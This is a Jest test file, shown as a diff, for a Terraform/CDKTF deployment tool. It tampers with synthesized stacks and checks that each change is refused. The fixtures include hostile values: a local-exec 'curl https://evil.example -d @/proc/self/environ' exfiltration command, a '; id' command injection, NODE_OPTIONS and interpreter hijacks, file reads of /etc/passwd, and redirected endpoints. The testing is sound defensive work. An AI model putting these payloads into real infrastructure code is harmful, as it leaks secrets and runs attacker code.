@@ -1,0 +1,514 @@
+import { mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { App } from 'cdktf';
+import { checkedStack, type Trust } from '../../cli/expected-stack';
+import { definitionClaims } from '../../cli/definition-claim';
+import { loadEnvironments, loadState } from '../../definition/load';
+import { knownTypes } from '../../plan/known-types';
+import { collectSynthesis, readSynthesis, type Synthesis } from '../../plan/synthesis-file';
+import { sha256 } from '../../plan/stack-json';
+import { EnvironmentStack } from '../../stacks/environment-stack';
+import { layProviderLock } from '../../stacks/provider-lock';
+import { StateBackendStack } from '../../stacks/state-backend-stack';
+
+const root = join(__dirname, '../..');
+const scratch = mkdtempSync(join(tmpdir(), 'unread-'));
+const file = join(scratch, 'synthesis.json');
+let honest: Synthesis;
+
+beforeAll(() => {
+  const folder = join(root, 'environments');
+  const [state, app] = [loadState(folder), new App({ outdir: join(scratch, 'out') })];
+  new StateBackendStack(app, state);
+  for (const environment of loadEnvironments(folder, root)) new EnvironmentStack(app, environment, state);
+  app.synth();
+  layProviderLock(app, root);
+  honest = collectSynthesis(join(scratch, 'out'), definitionClaims(root), {});
+});
+afterAll(() => rmSync(scratch, { recursive: true, force: true }));
+
+// eslint-disable-next-line @typescript-eslint/no-explicit-any -- an attacker changes anything
+type Anything = any;
+type Attack = (stack: Anything, synthesis: Anything) => void;
+
+/** What this checkout says of the stack of staging, after somebody has changed it; nothing when it would be planned. */
+function refused(attack: Attack, trust: Trust = {}, name = 'staging'): string | undefined {
+  const synthesis = structuredClone(honest) as Anything;
+  attack(synthesis.stacks[name].json, synthesis);
+  writeFileSync(file, JSON.stringify(synthesis));
+  try {
+    checkedStack(root, file, name, trust);
+    return undefined;
+  } catch (error) {
+    return (error as Error).message;
+  }
+}
+/** The lines that name what was found. */
+const lines = (message: string | undefined): string[] =>
+  (message ?? '')
+    .split('\n')
+    .filter((line) => line.startsWith('  '))
+    .map((line) => line.trim());
+
+test('what our own constructs make is planned, every environment and the stack of the state', () => {
+  expect(Object.keys(honest.stacks)).toEqual(['production', 'staging', 'state']);
+  for (const name of Object.keys(honest.stacks)) expect(refused(() => undefined, {}, name)).toBeUndefined();
+});
+
+const provisioner = (command: string) => ({ provisioner: [{ 'local-exec': { command } }] });
+
+test.each<[string, Attack, string[]]>([
+  [
+    'credentials sent elsewhere',
+    ({ provider }) => {
+      provider.digitalocean[0].api_endpoint = 'https://evil.example';
+    },
+    [
+      'provider.digitalocean[0].api_endpoint: got "https://evil.example"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
+    ],
+  ],
+  [
+    'a token in the open',
+    ({ provider }) => {
+      provider.digitalocean[0].token = 'dop_v1_x';
+    },
+    [
+      'provider.digitalocean[0].token: got "dop_v1_x"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
+    ],
+  ],
+  [
+    'GitHub elsewhere',
+    ({ provider }) => {
+      provider.github[0].base_url = 'https://evil.example/';
+    },
+    [
+      'provider.github[0].base_url: got "https://evil.example/"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
+    ],
+  ],
+  [
+    "somebody else's repositories",
+    ({ provider }) => {
+      provider.github[0].owner = 'mallory';
+    },
+    ['provider.github[0].owner: got "mallory"; allowed: acme'],
+  ],
+  [
+    'a second configuration of a provider',
+    ({ provider }) => {
+      provider.github.push({ owner: 'acme', alias: 'two' });
+    },
+    ['provider.github: got [{"owner":"acme"},{"owner":"acme","alias":"two"}]; allowed: exactly one configuration'],
+  ],
+  [
+    'another provider',
+    ({ provider }) => {
+      provider.external = [{}];
+    },
+    ['provider.external: got a provider; allowed: digitalocean, github'],
+  ],
+  [
+    'a provider from elsewhere',
+    ({ terraform }) => {
+      terraform.required_providers.digitalocean.source = 'evil.example/x/digitalocean';
+    },
+    [
+      'terraform.required_providers.digitalocean.source: got "evil.example/x/digitalocean"; allowed: "digitalocean/digitalocean"',
+    ],
+  ],
+  [
+    'one more provider to fetch',
+    ({ terraform }) => {
+      terraform.required_providers.http = { source: 'hashicorp/http' };
+    },
+    ['terraform.required_providers.http: got {"source":"hashicorp/http"}; allowed: nothing'],
+  ],
+  [
+    "another environment's state",
+    ({ terraform }) => {
+      terraform.backend.s3.key = 'production/terraform.tfstate';
+    },
+    ['terraform.backend.s3.key: got "production/terraform.tfstate"; allowed: "staging/terraform.tfstate"'],
+  ],
+  [
+    'another store for the state',
+    ({ terraform }) => {
+      terraform.backend.s3.endpoints.s3 = 'https://evil.example';
+    },
+    ['terraform.backend.s3.endpoints.s3: got "https://evil.example"; allowed: "https://fra1.digitaloceanspaces.com"'],
+  ],
+  [
+    'a state without a lock',
+    ({ terraform }) => {
+      delete terraform.backend.s3.use_lockfile;
+    },
+    ['terraform.backend.s3.use_lockfile: got nothing; allowed: true'],
+  ],
+  [
+    'another backend',
+    ({ terraform }) => {
+      terraform.backend = { http: { address: 'https://evil.example' } };
+    },
+    [
+      'terraform.backend.s3: got nothing; allowed: {"bucket":"asset-archive-state","key":"staging/terraform....',
+      'terraform.backend.http: got {"address":"https://evil.example"}; allowed: nothing',
+    ],
+  ],
+  [
+    'a cloud block',
+    ({ terraform }) => {
+      terraform.cloud = { organization: 'evil' };
+    },
+    ['terraform.cloud: got {"organization":"evil"}; allowed: nothing'],
+  ],
+  [
+    'a module',
+    (stack) => {
+      stack.module = { a: { source: 'evil.example/a' } };
+    },
+    ['module: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
+  ],
+  [
+    'a variable, which the environment fills in',
+    (stack) => {
+      stack.variable = { token: {} };
+    },
+    ['variable: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
+  ],
+  [
+    'a removed block with a provisioner',
+    (stack) => {
+      stack.removed = [{ from: 'terraform_data.x', ...provisioner('id') }];
+    },
+    ['removed: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
+  ],
+  [
+    'a program as a data source',
+    (stack) => {
+      stack.data = { external: { x: { program: ['sh'] } } };
+    },
+    ['data.external.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key'],
+  ],
+  [
+    'a call of another host',
+    (stack) => {
+      stack.data = { http: { x: { url: 'https://evil.example' } } };
+    },
+    ['data.http.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key'],
+  ],
+  [
+    'a data source of our own provider that tells secrets',
+    (stack) => {
+      stack.data = { digitalocean_spaces_bucket_object: { x: { key: 'a' } } };
+    },
+    [
+      'data.digitalocean_spaces_bucket_object.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key',
+    ],
+  ],
+  [
+    'a resource of another provider',
+    ({ resource }) => {
+      resource.null_resource = { x: {} };
+    },
+    [
+      'resource.null_resource.x: got a resource; allowed: types of the providers digitalocean and github, and terraform_data',
+    ],
+  ],
+  [
+    "a command of one's own",
+    ({ resource }) => {
+      Object.assign(
+        resource.terraform_data.convergence,
+        provisioner('curl https://evil.example -d @/proc/self/environ'),
+      );
+    },
+    [
+      'resource.terraform_data.convergence.provisioner[0].local-exec.command: got "curl https://evil.example -d @/proc/self/environ"; allowed: node assets/convergence-program/HASH/await.js, node assets/succession-program/HASH/succession.js',
+    ],
+  ],
+  [
+    "our program, and then a command of one's own",
+    ({ resource }) => {
+      const [{ 'local-exec': exec }] = resource.terraform_data.convergence.provisioner;
+      exec.command += '; id';
+    },
+    [
+      expect.stringMatching(/^resource\.terraform_data\.convergence\.provisioner\[0\]\.local-exec\.command: got /),
+    ] as string[],
+  ],
+  [
+    'our program with a variable that Node obeys',
+    ({ resource }) => {
+      resource.terraform_data.convergence.provisioner[0]['local-exec'].environment.NODE_OPTIONS = '--require=/tmp/x.js';
+    },
+    [
+      'resource.terraform_data.convergence.provisioner[0].local-exec.environment.NODE_OPTIONS: got "--require=/tmp/x.js"; allowed: only BUCKET, REGION, DIGEST, PATIENCE',
+    ],
+  ],
+  [
+    'our program sent to another host',
+    ({ resource }) => {
+      resource.terraform_data.convergence.provisioner[0]['local-exec'].environment.REGION = 'evil.example/';
+    },
+    [
+      'resource.terraform_data.convergence.provisioner[0].local-exec.environment.REGION: got "evil.example/"; allowed: /^[a-z]{3}\\d$/',
+    ],
+  ],
+  [
+    'the same by the resource that it reads from',
+    ({ resource }) => {
+      resource.terraform_data.succession.input.region = 'evil.example/';
+    },
+    ['resource.terraform_data.succession.input.region: got "evil.example/"; allowed: /^[a-z]{3}\\d$/'],
+  ],
+  [
+    'our program by another interpreter',
+    ({ resource }) => {
+      resource.terraform_data.convergence.provisioner[0]['local-exec'].interpreter = ['/bin/sh', '-c', 'id'];
+    },
+    [
+      'resource.terraform_data.convergence.provisioner[0].local-exec.interpreter: got ["/bin/sh","-c","id"]; allowed: nothing',
+    ],
+  ],
+  [
+    'a provisioner of another resource',
+    ({ resource }) => {
+      Object.assign(resource.digitalocean_tag.tag, provisioner('id'));
+    },
+    [
+      'resource.digitalocean_tag.tag.provisioner: got [{"local-exec":{"command":"id"}}]; allowed: one local-exec of terraform_data, as constructs of this program make it',
+    ],
+  ],
+  [
+    'a file that is copied to a machine',
+    ({ resource }) => {
+      resource.terraform_data.x = {
+        provisioner: [{ file: { source: '/etc/passwd' } }],
+        connection: { host: 'evil.example' },
+      };
+    },
+    [
+      'resource.terraform_data.x.connection: got a block; allowed: nothing',
+      'resource.terraform_data.x.provisioner: got [{"file":{"source":"/etc/passwd"}}]; allowed: one local-exec of terraform_data, as constructs of this program make it',
+    ],
+  ],
+  [
+    'a file of the runner in an object',
+    ({ resource }) => {
+      resource.digitalocean_spaces_bucket_object.desired.content = '${file("/proc/self/environ")}';
+    },
+    [
+      'resource.digitalocean_spaces_bucket_object.desired.content: got "${file(\\"/proc/self/environ\\")}" calls file(), which is not among the functions that compute from their arguments alone; allowed: references to resources, and functions that compute from their arguments alone',
+    ],
+  ],
+  [
+    'a file of the runner in the key of a map',
+    ({ resource }) => {
+      resource.terraform_data.x = { input: { '${file("/etc/passwd")}': 1 } };
+    },
+    [expect.stringMatching(/^resource\.terraform_data\.x\.input\.\$\{file/)] as string[],
+  ],
+  [
+    'a secret that is no secret any more',
+    (stack) => {
+      stack.output = { key: { value: '${nonsensitive(digitalocean_spaces_key.machine-key.secret_key)}' } };
+    },
+    [expect.stringMatching(/^output\.key\.value: got .*calls nonsensitive\(\)/)] as string[],
+  ],
+  [
+    'a block in a shape that nobody looks at',
+    (stack) => {
+      stack.resource = [stack.resource, { null_resource: { x: {} } }];
+    },
+    ['resource: got another shape; allowed: an object of types'],
+  ],
+  [
+    'a body in such a shape',
+    ({ resource }) => {
+      resource.terraform_data.x = [provisioner('id')];
+    },
+    ['resource.terraform_data.x: got another shape; allowed: an object of attributes'],
+  ],
+  [
+    'an import that runs through a map',
+    (stack) => {
+      stack.import = [{ to: 'digitalocean_tag.tag', id: 'x', for_each: {} }];
+    },
+    ['import: got [{"to":"digitalocean_tag.tag","id":"x","for_each":{}}]; allowed: a list of { to, id }'],
+  ],
+])('refused is %s, by its path', (_, attack, found) => {
+  const message = refused(attack);
+  expect(message?.split('\n')[0]).toBe('staging: the synthesized stack is refused, and was not planned');
+  expect(lines(message)).toEqual(found);
+  // nobody's reading lets it through
+  expect(refused(attack, { programRead: true })).toBeDefined();
+});
+
+const replaced =
+  (program: string, text: string): Attack =>
+  (_, synthesis) => {
+    const { assets } = synthesis.stacks.staging;
+    const path = Object.keys(assets).find((name) => name.includes(program))!;
+    const bytes = Buffer.from(text);
+    assets[path] = sha256(bytes);
+    synthesis.files[sha256(bytes)] = bytes.toString('base64');
+  };
+
+test.each<[string, Attack, RegExp[]]>([
+  [
+    'the program of an apply',
+    replaced('convergence-program', 'steal()'),
+    [
+      /^assets\/convergence-program\/[0-9A-F]{32}\/await\.js: got SHA-256 [0-9a-f]{16}…; allowed: the files that the code of this branch builds$/,
+    ],
+  ],
+  [
+    'the agent of a machine',
+    replaced('agent-bundle', 'steal()'),
+    [/^assets\/agent-bundle\/[0-9A-F]{32}\/agent\.js: got SHA-256/],
+  ],
+  [
+    'what a machine boots, which no plan shows',
+    ({ resource }) => {
+      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
+        'runcmd:',
+        'runcmd:\n  - - curl\n    - evil.example',
+      );
+    },
+    [
+      /^resource\.digitalocean_droplet\.machine\.user_data: got another text; allowed: what the templates of this branch render$/,
+    ],
+  ],
+  [
+    'where a machine fetches its agent',
+    ({ resource }) => {
+      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
+        'https://fra1.digitaloceanspaces.com',
+        'https://evil.example',
+      );
+    },
+    [/user_data: got another text/],
+  ],
+  [
+    'the version of a provider',
+    ({ terraform }) => {
+      terraform.required_providers.digitalocean.version = '2.99.0';
+    },
+    [/^terraform\.required_providers\.digitalocean\.version: got "2\.99\.0"; allowed: "2\.71\.0"$/],
+  ],
+  [
+    'the lock of the providers',
+    (_, synthesis) => {
+      synthesis.lock = synthesis.lock.replace('2.71.0', '2.99.0');
+    },
+    [
+      /^\.terraform\.lock\.hcl: got digitalocean 2\.99\.0, github 6\.9\.0; allowed: digitalocean 2\.71\.0, github 6\.9\.0$/,
+    ],
+  ],
+])('%s is refused until somebody who may write has read it', (_, attack, found) => {
+  const message = refused(attack);
+  expect(lines(message)).toEqual(found.map((pattern) => expect.stringMatching(pattern) as string));
+  expect(message).toContain('the label "plan" lets it be planned (docs/workflows.md)');
+  expect(refused(attack, { programRead: true })).toBeUndefined();
+});
+
+test('a file that is ours, in the place of another one, is not let through as it', () => {
+  const swap: Attack = (
+    _,
+    {
+      stacks: {
+        staging: { assets },
+      },
+    },
+  ) => {
+    const [agent, convergence] = ['agent-bundle', 'convergence-program'].map((name) =>
+      Object.keys(assets).find((path) => path.includes(name))!,
+    );
+    [assets[agent!], assets[convergence!]] = [assets[convergence!], assets[agent!]];
+  };
+  expect(lines(refused(swap))).toEqual([
+    expect.stringMatching(/^assets\/convergence-program\/.*: got SHA-256 .*, as the code of this branch builds it$/),
+  ]);
+});
+
+test.each<[string, () => void, RegExp]>([
+  [
+    'a folder of that name',
+    () => {
+      mkdirSync(file);
+    },
+    /is not a plain file: it is refused$/,
+  ],
+  [
+    'a link to another file',
+    () => {
+      symlinkSync('/etc/passwd', file);
+    },
+    /is not a plain file: it is refused$/,
+  ],
+  ['nothing', () => undefined, /does not exist: `npx berth synth --out FILE` writes it$/],
+  [
+    'no JSON',
+    () => {
+      writeFileSync(file, '{');
+    },
+    /is not JSON, or not all of it/,
+  ],
+  [
+    'a path that leads out of the folder',
+    () => {
+      write((s) => {
+        s.stacks.staging.assets['assets/../../../bin/berth.js'] = 'a'.repeat(64);
+      });
+    },
+    /is not what `npx berth synth --out FILE` writes: stacks\.staging\.assets/,
+  ],
+  [
+    'a stack whose name leads out',
+    () => {
+      write((s) => {
+        s.stacks['../x'] = s.stacks.staging;
+      });
+    },
+    /is not what `npx berth synth --out FILE` writes: stacks\.\.\.\/x/,
+  ],
+  [
+    'a file with other contents than its digest says',
+    () => {
+      write((s) => {
+        s.files[Object.keys(s.files)[0]!] = 'AAAA';
+      });
+    },
+    /its contents have another digest$/,
+  ],
+  [
+    'a field that nobody knows',
+    () => {
+      write((s) => {
+        s.more = 1;
+      });
+    },
+    /the whole: Unrecognized key: "more"$/,
+  ],
+])('read as data, %s is refused', (_, lay, message) => {
+  rmSync(file, { recursive: true, force: true });
+  lay();
+  expect(() => readSynthesis(file)).toThrow(message);
+  rmSync(file, { recursive: true, force: true });
+});
+
+function write(change: (synthesis: Anything) => void): void {
+  const synthesis = structuredClone(honest) as Anything;
+  change(synthesis);
+  writeFileSync(file, JSON.stringify(synthesis));
+}
+
+test('a review calls a resource strange that no construct makes, and no other one', () => {
+  const constructs = ['constructs', 'stacks']
+    .flatMap((folder) => readdirSync(join(root, folder)).map((name) => readFileSync(join(root, folder, name), 'utf8')))
+    .join('\n');
+  const imported = [...constructs.matchAll(/@cdktf\/provider-(\w+)\/lib\/([a-z0-9-]+)'/g)]
+    .map(([, provider, name]) => `${provider}_${name!.replaceAll('-', '_')}`)
+    .filter((type) => !/_data_|_provider$/.test(type));
+  expect([...knownTypes].sort()).toEqual([...new Set([...imported, 'terraform_data'])].sort());
+});
